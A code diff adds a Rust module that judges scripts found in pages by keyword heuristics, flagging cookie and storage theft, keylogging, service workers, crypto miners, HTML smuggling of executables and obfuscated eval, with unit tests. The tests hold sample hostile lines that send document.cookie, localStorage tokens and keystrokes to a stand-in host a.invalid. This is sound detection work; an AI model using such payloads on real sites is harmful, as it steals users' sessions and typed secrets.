@@ -1,0 +1,388 @@
+//! What a script of a page does, told by its words.
+
+use super::decode;
+use crate::Severity;
+
+/// What is said of a script: how bad, and why.
+pub(crate) type Judgement = (Severity, &'static str);
+
+/// How near two words must be to belong together.
+const NEAR: usize = 240;
+/// More of one script is not looked at word by word.
+const SCRIPT_BYTES_MAX: usize = 4 << 20;
+/// Bundled libraries are larger; what they contain by the way says nothing.
+const SMALL: usize = 20_000;
+
+const KEEPS: [&str; 5] = [
+    "document.cookie",
+    "localstorage",
+    "sessionstorage",
+    "indexeddb.",
+    "navigator.credentials",
+];
+const SENDS: [&str; 14] = [
+    "fetch(",
+    "xmlhttprequest",
+    "sendbeacon",
+    "newimage",
+    ".src=",
+    "websocket(",
+    "location=",
+    "location.href=",
+    "location.assign(",
+    "location.replace(",
+    "window.open(",
+    ".open('post'",
+    ".open(\"post\"",
+    "$.post(",
+];
+const KNOWN_HOSTS: &str = include_str!("script/known_hosts.txt");
+
+/// Whether the address names another host.
+pub(crate) fn external(address: &str) -> bool {
+    let bare: String = address
+        .trim()
+        .chars()
+        .filter(|c| !c.is_ascii_control())
+        .take(12)
+        .collect();
+    let bare = bare.to_ascii_lowercase().replace('\\', "/");
+    ["http:", "https:", "ftp:", "ws:", "wss:", "//"]
+        .iter()
+        .any(|start| bare.starts_with(start))
+}
+
+/// Whether the host is one that plot libraries load themselves from.
+pub(crate) fn known_host(address: &str) -> bool {
+    let bare = address.trim();
+    let rest = bare.find("//").map_or("", |at| &bare[at + 2..]);
+    let host = rest.split(['/', '?', '#', ':']).next().unwrap_or("");
+    KNOWN_HOSTS
+        .lines()
+        .any(|known| host.eq_ignore_ascii_case(known))
+}
+
+/// Judges a script; without a reason for worse it is active.
+pub(crate) fn judge(script: &str) -> Judgement {
+    let script = decode::head(script, SCRIPT_BYTES_MAX);
+    let bare: String = script
+        .chars()
+        .filter(|c| !c.is_whitespace())
+        .map(|c| c.to_ascii_lowercase())
+        .collect();
+    let small = bare.len() < SMALL;
+    let has = |word: &str| memchr::memmem::find(bare.as_bytes(), word.as_bytes()).is_some();
+    for (word, why) in [
+        (
+            "serviceworker.register(",
+            "it installs a service worker, which stays",
+        ),
+        ("wscript.shell", "it starts programs"),
+        ("createobject(", "it makes objects of the system"),
+        ("newactivexobject(\"wscript", "it starts programs"),
+        ("newactivexobject(\"shell", "it starts programs"),
+        ("newactivexobject('shell", "it starts programs"),
+        ("coinhive", "it computes for a stranger"),
+        ("cryptonight", "it computes for a stranger"),
+    ] {
+        if has(word) && (small || word != "createobject(") {
+            return (Severity::Malicious, why);
+        }
+    }
+    if small && near(&bare, &KEEPS, &SENDS) {
+        return (
+            Severity::Malicious,
+            "it sends what the browser keeps for the site",
+        );
+    }
+    if smuggles(&bare) {
+        return (
+            Severity::Malicious,
+            "it puts a program together and offers it for saving",
+        );
+    }
+    if small && let Some(judgement) = obfuscated(&bare) {
+        return judgement;
+    }
+    if small
+        && near(
+            &bare,
+            &[
+                "keydown",
+                "keypress",
+                "keyup",
+                ".password",
+                "[type=password]",
+            ],
+            &SENDS,
+        )
+        && has("http")
+    {
+        return (Severity::Malicious, "it sends what is typed");
+    }
+    if sends_out(&bare) {
+        return (
+            Severity::Suspicious,
+            "it sends to another host or goes there",
+        );
+    }
+    if small && (has("opener.location") || has("document.domain") && has("alert(")) {
+        return (Severity::Suspicious, "it reaches for the page around it");
+    }
+    let probe = bare.trim_start_matches(['(', '"', '\'', '/', '*', '-', ';', '>']);
+    if bare.len() < 100
+        && [
+            "alert(",
+            "alert`",
+            "confirm(",
+            "prompt(",
+            "window.alert(",
+            "top.alert(",
+            "self.alert(",
+            "console.log(document.",
+        ]
+        .iter()
+        .any(|word| probe.starts_with(word))
+    {
+        return (Severity::Suspicious, "it only tries whether scripts run");
+    }
+    (Severity::Active, "it holds a script")
+}
+
+fn near(bare: &str, first: &[&str], second: &[&str]) -> bool {
+    first.iter().any(|word| {
+        memchr::memmem::find_iter(bare.as_bytes(), word.as_bytes())
+            .take(200)
+            .any(|at| {
+                let around = &bare.as_bytes()[at.saturating_sub(NEAR)..bare.len().min(at + NEAR)];
+                second
+                    .iter()
+                    .any(|word| memchr::memmem::find(around, word.as_bytes()).is_some())
+            })
+    })
+}
+
+fn smuggles(bare: &str) -> bool {
+    let has = |word: &str| memchr::memmem::find(bare.as_bytes(), word.as_bytes()).is_some();
+    let makes = has("createobjecturl")
+        || has("mssaveoropenblob")
+        || has("mssaveblob")
+        || has("data:application/octet");
+    if !makes {
+        return false;
+    }
+    let programs = [
+        ".exe", ".scr", ".msi", ".hta", ".vbs", ".iso", ".img", ".bat", ".cmd", ".lnk", ".ps1",
+        ".dll", ".jar", ".js'", ".js\"", ".zip", ".vhd", ".docm", ".xlsm", ".apk", ".dmg",
+    ];
+    let heads = ["tvqq", "tvoa", "tvpq", "uesdb", "f0vmr", "0m8r4k", "n3q8r"];
+    let named = programs
+        .iter()
+        .any(|program| near(bare, &["download"], &[program]));
+    let held = heads
+        .iter()
+        .any(|head| has(&format!("'{head}")) || has(&format!("\"{head}")));
+    (named && (has("atob(") || has("blob(") || has("uint8array"))) || held
+}
+
+fn obfuscated(bare: &str) -> Option<Judgement> {
+    let has = |word: &str| memchr::memmem::find(bare.as_bytes(), word.as_bytes()).is_some();
+    let runs = [
+        "eval(",
+        "newfunction(",
+        "document.write(",
+        "settimeout(\"",
+        "settimeout('",
+        "settimeout(atob",
+        "[\"eval\"]",
+        "['eval']",
+        "constructor(",
+        "import(",
+    ]
+    .iter()
+    .any(|word| has(word));
+    let decodes = [
+        "atob(",
+        "unescape(",
+        "fromcharcode",
+        "decodeuricomponent(",
+        "parseint(",
+        "\\x",
+        "reverse().join",
+        "split(\"\").reverse",
+    ]
+    .iter()
+    .any(|word| has(word));
+    if runs
+        && decodes
+        && (has("eval(")
+            || has("function(atob")
+            || has("unescape(")
+            || has("atob(")
+            || has("fromcharcode")
+            || has("reverse()"))
+    {
+        return Some((Severity::Malicious, "it runs what it decodes"));
+    }
+    // `window['ev'+'al']`, `self["al"+"ert"]`.
+    let joined = memchr::memmem::find_iter(bare.as_bytes(), b"[")
+        .take(5000)
+        .any(|at| {
+            let inner: Vec<u8> = bare.as_bytes()[at + 1..]
+                .iter()
+                .take(40)
+                .take_while(|b| **b != b']')
+                .copied()
+                .collect();
+            let word = String::from_utf8_lossy(&inner).replace(['"', '\'', '+', '`'], "");
+            inner.contains(&b'+')
+                && [
+                    "eval",
+                    "function",
+                    "alert",
+                    "cookie",
+                    "atob",
+                    "fetch",
+                    "location",
+                    "constructor",
+                    "document",
+                    "write",
+                    "execscript",
+                    "localstorage",
+                ]
+                .contains(&word.as_str())
+        });
+    if joined {
+        return Some((Severity::Malicious, "it hides the name of what it calls"));
+    }
+    let marks = bare
+        .bytes()
+        .filter(|b| matches!(b, b'[' | b']' | b'(' | b')' | b'!' | b'+'))
+        .count();
+    if bare.len() > 200 && marks * 20 > bare.len() * 19 {
+        return Some((Severity::Malicious, "it is written in brackets alone"));
+    }
+    if bare.matches("\\u00").count() > 8 || bare.matches("\\x").count() > 20 && bare.len() < 4000 {
+        return Some((Severity::Suspicious, "its names are written as codes"));
+    }
+    has("eval(").then_some((Severity::Suspicious, "it runs text as code"))
+}
+
+/// A call that sends, with an address elsewhere written into it.
+fn sends_out(bare: &str) -> bool {
+    let calls = [
+        "fetch(",
+        "sendbeacon(",
+        "websocket(",
+        "eventsource(",
+        "importscripts(",
+        "import(",
+        "newimage().src=",
+        ".open('get',",
+        ".open(\"get\",",
+        ".open('post',",
+        ".open(\"post\",",
+        "location=",
+        "location.href=",
+        "location.assign(",
+        "location.replace(",
+        "window.open(",
+        "$.get(",
+        "$.post(",
+        "$.getscript(",
+    ];
+    calls.iter().any(|call| {
+        memchr::memmem::find_iter(bare.as_bytes(), call.as_bytes())
+            .take(2000)
+            .any(|at| {
+                let Some(rest) = bare.get(at + call.len()..) else {
+                    return false;
+                };
+                let Some(address) = rest.strip_prefix(['"', '\'', '`']) else {
+                    return false;
+                };
+                external(address) && !known_host(address) && !own_host(address) && !w3(address)
+            })
+    }) || near(
+        bare,
+        &["newimage"],
+        &[
+            ".src='http",
+            ".src=\"http",
+            ".src='//",
+            ".src=\"//",
+            ".src=`http",
+        ],
+    )
+}
+
+/// `"http://" + window.location.host`: the page's own.
+fn own_host(address: &str) -> bool {
+    let rest = address.find("//").map_or("", |at| &address[at + 2..]);
+    let rest = rest.trim_start_matches(['"', '\'', '`', '+', '$', '{']);
+    let own = [
+        "window.location",
+        "location.",
+        "document.location",
+        "document.domain",
+    ];
+    own.iter().any(|own| rest.starts_with(own))
+}
+
+fn w3(address: &str) -> bool {
+    address.contains("//www.w3.org/") || address.contains("//localhost")
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn scripts_are_told_apart() {
+        for (script, wanted) in [
+            (
+                "const d=[3,1];document.getElementById('c').getContext('2d').fillRect(0,0,1,1)",
+                Severity::Active,
+            ),
+            (
+                "Plotly.newPlot('a', [{x:[1]}], {}); window.onresize = () => Plotly.Plots.resize('a')",
+                Severity::Active,
+            ),
+            (
+                "fetch('https://a.invalid/?' + document.cookie)",
+                Severity::Malicious,
+            ),
+            (
+                "new Image().src = '//a.invalid/c?' + localStorage.token",
+                Severity::Malicious,
+            ),
+            ("eval(atob('YQ=='))", Severity::Malicious),
+            ("window['ev'+'al'](x)", Severity::Malicious),
+            ("self[\"al\" + \"ert\"](1)", Severity::Malicious),
+            (
+                "navigator.serviceWorker.register('/sw.js')",
+                Severity::Malicious,
+            ),
+            (
+                "var b = atob('TVqQAAM'); a.href = URL.createObjectURL(new Blob([b])); a.download = 'x.txt'",
+                Severity::Malicious,
+            ),
+            (
+                "a.download='r.iso'; a.href=URL.createObjectURL(new Blob([Uint8Array.from(x)]))",
+                Severity::Malicious,
+            ),
+            ("location = 'https://a.invalid/login'", Severity::Suspicious),
+            ("alert(1)", Severity::Suspicious),
+            (
+                "document.addEventListener('keydown', e => fetch('https://a.invalid/' + e.key))",
+                Severity::Malicious,
+            ),
+            (
+                "import('https://cdn.jsdelivr.net/npm/vega')",
+                Severity::Active,
+            ),
+        ] {
+            assert_eq!(judge(script).0, wanted, "{script}");
+        }
+    }
+}
